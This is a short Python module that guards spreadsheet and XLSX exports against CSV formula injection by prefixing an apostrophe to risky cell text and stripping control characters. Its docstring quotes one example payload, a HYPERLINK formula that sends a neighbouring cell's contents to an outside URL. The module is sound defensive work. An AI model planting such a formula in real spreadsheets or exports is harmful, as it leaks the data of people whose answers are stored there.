"""Cells a spreadsheet cannot run: text that would start a formula is written as text.

A cell whose text begins with `=`, `+`, `-` or `@` (or a tab or carriage return, which some
spreadsheets skip before reading the rest) is taken as a formula by Excel, LibreOffice and Google
Sheets when a CSV file is opened, and by openpyxl when it writes a workbook. Participants' answers
are exactly the text such a formula would hide in (`=HYPERLINK("http://…?"&A1, "click")` sends a
neighbouring cell away). The usual defence (OWASP, "CSV injection") is a leading apostrophe, which
spreadsheets show as text and never evaluate; the text after it is unchanged.
"""

from __future__ import annotations

import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Characters XML 1.0 (and so an XLSX file) cannot hold; openpyxl refuses them.
_NOT_XML = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def spreadsheet_safe(value: object) -> object:
    """`value` as a spreadsheet should store it: text that could start a formula gets a leading
    apostrophe (also when spaces come first: some programs trim them before reading)."""
    if isinstance(value, str) and value.lstrip(" ").startswith(FORMULA_STARTS):
        return "'" + value
    return value


def xlsx_safe(value: object) -> object:
    """`spreadsheet_safe`, and without the control characters an XLSX file cannot hold."""
    value = spreadsheet_safe(value)
    if isinstance(value, str) and _NOT_XML.search(value) is not None:
        return _NOT_XML.sub("", value)
    return value


def xlsx_row(values: list[object]) -> list[object]:
    """`xlsx_safe` of each cell of a row."""
    return [xlsx_safe(value) for value in values]
